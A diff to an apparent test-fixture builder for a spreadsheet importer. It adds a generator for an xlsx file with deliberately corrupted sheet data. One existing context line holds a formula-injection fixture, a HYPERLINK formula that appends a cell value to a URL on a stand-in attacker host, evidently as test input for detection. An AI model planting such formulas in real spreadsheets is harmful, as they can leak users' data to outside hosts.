@@ -168,6 +168,16 @@ def _late(seed: int, bad: bytes, encoding: str = "gbk") -> bytes:
     return csv_text(table).encode(encoding).replace(b"@@BAD@@", bad)
 
 
+def _corrupt_sheet() -> bytes:
+    """A workbook whose directory is sound but whose sheet's compressed bytes are damaged."""
+    data = bytearray(xlsx(rows(20, 47)))
+    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
+    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    for at in range(start + info.compress_size // 2, start + info.compress_size // 2 + 16):
+        data[at] ^= 0x5A
+    return bytes(data)
+
+
 def _bad_check_digit() -> bytes:
     table = rows(50, 60)
     table[5][0] = corrupt_check_char(table[5][0], "0123456789X")
@@ -266,6 +276,7 @@ BUILDERS: dict[str, Callable[[], bytes]] = {
     ),
     "xlsx_header_only.xlsx": lambda: xlsx([]),
     "xlsx_damaged.xlsx": lambda: xlsx(rows(3, 39))[:300],
+    "xlsx_corrupt_sheet_data.xlsx": _corrupt_sheet,
     "formula_hyperlink.csv": lambda: with_cell(
         40, 1, 3, '=HYPERLINK("http://evil.example/?"&A2,"详情")'
     ),
